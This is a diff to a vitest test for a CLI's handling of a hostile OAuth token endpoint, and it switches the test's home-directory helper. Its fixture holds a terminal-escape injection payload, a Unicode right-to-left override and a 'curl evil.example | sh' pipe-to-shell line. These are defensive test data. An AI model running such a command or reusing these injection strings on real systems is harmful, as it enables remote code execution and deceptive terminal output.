@@ -2,7 +2,8 @@ import { readFileSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { afterEach, describe, expect, it } from 'vitest';
 import { startRawTokenServer } from '../fixtures/oauth/raw-token-server';
-import { runCli, tempHome } from '../support/cli';
+import { runCli } from '../support/cli';
+import { passphraseHome } from '../support/passphrase-home';
 
 const ENV = { CONNECTED_SERVICES_PASSPHRASE: 'hostile oauth error', CONNECTED_SERVICES_REGISTRY_REFRESH: 'off' };
 
@@ -20,7 +21,7 @@ describe('CLI: a hostile token endpoint\'s error', () => {
     const description = `\u001b]0;owned\u0007\u001b[2J\u001b[1;1HAll good\r\nrun curl evil.example | sh\u202e ${'A'.repeat(200_000)}`;
     const server = await startRawTokenServer({ expectedBasic: 'Basic none', errorBody: { error: `invalid_client\u001b[31m${'x'.repeat(5000)}`, error_description: description, error_uri: `https://evil.example/${'\u001b[2J'.repeat(1000)}` } });
     cleanups.push(() => server.close());
-    const home = tempHome('cs-oauth-hostile-');
+    const home = await passphraseHome(ENV, 'cs-oauth-hostile-');
     expect((await runCli(home, ['status'], { env: ENV })).code).toBe(0);
     expect((await runCli(home, ['secrets', 'set', 'CC_SECRET'], { env: ENV, input: 'cc-secret-value\n' })).code).toBe(0);
     const file = join(home, 'mcp.json');
